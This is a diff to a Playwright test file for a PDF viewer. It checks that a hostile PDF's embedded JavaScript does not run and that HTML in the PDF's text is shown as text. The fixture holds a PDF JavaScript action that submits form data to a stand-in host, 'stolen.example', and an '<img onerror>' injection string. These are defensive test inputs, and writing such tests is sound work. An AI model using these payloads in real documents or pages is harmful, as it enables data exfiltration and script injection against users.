@@ -15,7 +15,7 @@ const rawPdf = (objects: readonly string[], trailer = '') =>
     'latin1',
   )
 
-const script = '/S /JavaScript /JS (app.alert\\("here"\\); this.submitForm\\("http://localhost/stolen"\\))'
+const script = '/S /JavaScript /JS (app.alert\\("here"\\); this.submitForm\\("http://stolen.example/stolen"\\))'
 const words = 'BT /F1 14 Tf 60 760 Td (Kian <img src=/stolen onerror=alert\\(1\\)> Rostami) Tj ET'
 
 /**
@@ -91,7 +91,7 @@ test('a Persian CV is drawn, and its text can be selected and found in any spell
   await expect(spot).toHaveAttribute('aria-pressed', 'true')
 })
 
-test('no script of a hostile PDF runs, and HTML in its text is shown as text', async ({ kit, context }) => {
+test('no script of a hostile PDF runs, and HTML in its text is shown as text', async ({ kit, context, baseURL }) => {
   const page = await kit({ 'cv.pdf': hostile })
   const requests: string[] = []
   page.on('dialog', dialog => requests.push(dialog.message()))
@@ -99,7 +99,7 @@ test('no script of a hostile PDF runs, and HTML in its text is shown as text', a
   await page.goto(address({ file: 'cv.pdf', find: 'rostami' }))
   await expect(marked(page)).toHaveCount(1)
   await page.mouse.click(300, 300)
-  expect(requests.filter(it => !it.startsWith('http://localhost/') || it.includes('stolen'))).toEqual([])
+  expect(requests.filter(it => !it.startsWith(`${baseURL}/`) || it.includes('stolen'))).toEqual([])
   await expect(page.locator('.pdf-text')).toContainText('<img src=/stolen')
   await expect(page.getByRole('region').locator('img, a, input, iframe, form')).toHaveCount(0)
 })
